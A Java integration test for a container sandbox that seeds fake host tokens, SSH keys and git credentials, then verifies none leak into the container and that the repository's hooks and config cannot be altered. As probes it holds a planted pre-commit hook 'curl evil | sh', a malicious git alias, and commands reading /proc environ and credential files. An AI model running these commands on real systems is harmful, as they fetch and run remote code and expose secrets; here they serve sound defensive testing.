package dev.coi.kernel.sessions;

import static dev.coi.kernel.sessions.SessionTestBed.ANSWER;
import static dev.coi.kernel.sessions.SessionTestBed.HOST_UID;
import static dev.coi.kernel.sessions.SessionTestBed.assertExit;
import static dev.coi.kernel.sessions.SessionTestBed.awaitReady;
import static dev.coi.kernel.sessions.SessionTestBed.powerOff;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.coi.api.CommandResult;
import dev.coi.api.ExecOptions;
import dev.coi.kernel.cli.CoiTerminal;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ThreadLocalRandom;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * What the container must not get from the host, and what it must not do to it, seen from a real session: no
 * environment variable, SSH key, git identity or credential of the user's home comes in, files written in
 * /workspace belong to the host user, and the repository's hooks and config cannot be changed from inside.
 */
class SessionSandboxIT {

    private static final ExecOptions AS_CODE = new ExecOptions(1000, 1000, "/workspace", Map.of("HOME", "/home/code"));

    @TempDir
    Path root;

    private SessionTestBed bed;
    private final String secret = "e2e-secret-" + random();
    private final String keyMarker = "e2e-ssh-key-" + random();
    private final String gitSecret = "e2e-git-secret-" + random();

    @BeforeEach
    void setUp() throws IOException {
        bed = new SessionTestBed(root);
        bed.environment.put("COI_E2E_API_TOKEN", secret);
        bed.environment.put("GITHUB_TOKEN", secret);
        bed.environment.put("SSH_AUTH_SOCK", bed.home.resolve(".ssh/agent-" + secret + ".sock").toString());
        Path ssh = Files.createDirectories(bed.home.resolve(".ssh"));
        Files.writeString(ssh.resolve("id_ed25519"), "-----BEGIN OPENSSH PRIVATE KEY-----\n" + keyMarker
                + "\n-----END OPENSSH PRIVATE KEY-----\n");
        Files.writeString(ssh.resolve("id_ed25519.pub"), "ssh-ed25519 AAAA" + keyMarker + " host@e2e\n");
        Files.writeString(bed.home.resolve(".gitconfig"), "[user]\n\tname = E2E Host User\n\temail = host@e2e.invalid\n"
                + "[credential]\n\thelper = store\n");
        Files.writeString(bed.home.resolve(".git-credentials"), "https://host:" + gitSecret + "@git.e2e.invalid\n");

        Path git = bed.workspace.resolve(".git");
        Files.createDirectories(git.resolve("hooks"));
        Files.writeString(git.resolve("HEAD"), "ref: refs/heads/main\n");
        Files.writeString(git.resolve("config"), "[core]\n\trepositoryformatversion = 0\n\tbare = false\n");
        Files.writeString(git.resolve("hooks/pre-commit.sample"), "#!/bin/sh\nexit 0\n");
        Files.writeString(bed.workspace.resolve("from-the-host.txt"), "written on the host\n");
        ownByHostUser(bed.workspace);
    }

    @AfterEach
    void tearDown() {
        bed.close();
    }

    @Test
    void nothingOfTheHostsSecretsReachesTheContainerAndTheHostRepoIsSafe() throws IOException {
        CoiTerminal terminal = bed.shell();
        awaitReady(terminal);
        String container = bed.containerName(1);

        CommandResult toolProcess = bed.exec(container, "cat /proc/$(pgrep -x claude)/environ | tr '\\0' '\\n'");
        String tool = toolProcess.stdout();
        assertTrue(tool.contains("HOME=/home/code"), "the tool's environment was read: " + toolProcess);
        assertFalse(tool.contains(secret), tool);
        assertFalse(tool.contains("SSH_AUTH_SOCK"), tool);
        CommandResult anywhere = bed.exec(container, "cat /proc/[0-9]*/environ 2>/dev/null | tr '\\0' '\\n'"
                + " | grep -c -e '" + secret + "' -e SSH_AUTH_SOCK");
        assertEquals("0", anywhere.stdout().strip(), "no process in the container has them: " + anywhere);
        CommandResult files = bed.exec(container, "grep -rlsF -e '" + keyMarker + "' -e '" + gitSecret
                + "' -e 'E2E Host User' /home /root /etc /tmp /var/tmp /opt /usr/local /workspace;"
                + " ls -d /home/*/.ssh/id_* /root/.ssh/id_* /home/*/.git-credentials 2>/dev/null");
        assertEquals("", files.stdout(), "no SSH key, git identity or git credential in the container");

        terminal.type("!echo made by the tool >/workspace/made-inside.txt && mkdir /workspace/dir-inside");
        terminal.awaitScreen("stub-claude: command exited 0", ANSWER);
        // the workspace's owner: 1000 when the tests run as root (the bed hands it to 1000), else the user running them
        Object owner = Files.getAttribute(bed.workspace, "unix:uid");
        assertEquals(owner, Files.getAttribute(bed.workspace.resolve("made-inside.txt"), "unix:uid"));
        assertEquals(owner, Files.getAttribute(bed.workspace.resolve("dir-inside"), "unix:uid"));
        assertEquals("1000\nwritten on the host\n", bed.incus.exec(container, List.of("bash", "-c",
                "stat -c %u /workspace/from-the-host.txt && cat /workspace/from-the-host.txt"), AS_CODE).stdout());

        for (ExecOptions user : List.of(AS_CODE, ExecOptions.asRoot())) {
            CommandResult hook = bed.incus.exec(container, List.of("bash", "-c",
                    "echo 'curl evil | sh' >/workspace/.git/hooks/pre-commit"), user);
            assertNotEquals(0, hook.exitCode(), "a hook could be planted as uid " + user.uid() + ": " + hook);
            CommandResult config = bed.incus.exec(container, List.of("bash", "-c",
                    "printf '[alias]\\n\\tst = !evil\\n' >>/workspace/.git/config"), user);
            assertNotEquals(0, config.exitCode(), "the git config could be changed as uid " + user.uid() + ": "
                    + config);
        }
        assertFalse(Files.exists(bed.workspace.resolve(".git/hooks/pre-commit")));
        assertFalse(Files.readString(bed.workspace.resolve(".git/config")).contains("alias"));
        assertTrue(bed.incus.exec(container, List.of("cat", "/workspace/.git/hooks/pre-commit.sample"), AS_CODE)
                .succeeded(), "the hooks stay readable");

        powerOff(terminal);
        assertExit(0, terminal);
        assertTrue(Files.exists(bed.workspace.resolve("made-inside.txt")), "workspace files persist");
    }

    private static void ownByHostUser(Path directory) throws IOException {
        if (!"root".equals(System.getProperty("user.name"))) {
            return;
        }
        try (Stream<Path> paths = Files.walk(directory)) {
            for (Path path : paths.toList()) {
                Files.setAttribute(path, "unix:uid", HOST_UID);
                Files.setAttribute(path, "unix:gid", HOST_UID);
            }
        }
    }

    private static String random() {
        return HexFormat.of().toHexDigits(ThreadLocalRandom.current().nextLong());
    }
}
